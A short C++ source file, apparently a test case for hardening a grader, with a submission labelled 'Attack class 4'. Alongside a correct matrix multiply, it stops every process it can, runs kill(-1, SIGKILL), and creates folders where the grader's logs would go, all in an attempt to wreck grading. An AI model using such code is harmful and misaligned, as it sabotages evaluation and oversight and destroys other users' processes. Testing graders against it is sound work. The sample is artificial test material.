// Attack class 4, no grade at all: a correct naive GEMM that, on every call,
// signals every process it can (hoping to hit the reference worker or the
// grader) and makes folders where the grader once opened its log files. The
// reference is out of its reach and the logs have no names, so the grade is
// written and the correctness points are kept.
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <initializer_list>

// The level's textbook loop (its stub's) does the arithmetic.
static void naive_gemm(const float* A, const float* B, float* C, int M, int N, int K) {
    for (int i = 0; i < M; ++i)
        for (int j = 0; j < N; ++j) {
            float acc = 0.0f;
            for (int k = 0; k < K; ++k) acc += A[i * K + k] * B[k * N + j];
            C[i * N + j] = acc;
        }
}

extern "C" void student_gemm(const float* A, const float* B, float* C, int M, int N, int K) {
    for (const char* d : {"worker0.log", "worker1.log", "reference0.log", "compile.log"})
        mkdir(d, 0755);
    for (int pid = 1; pid < 65536; ++pid)
        if (pid != getpid()) kill(pid, SIGSTOP);
    kill(-1, SIGKILL);
    naive_gemm(A, B, C, M, N, K);
}
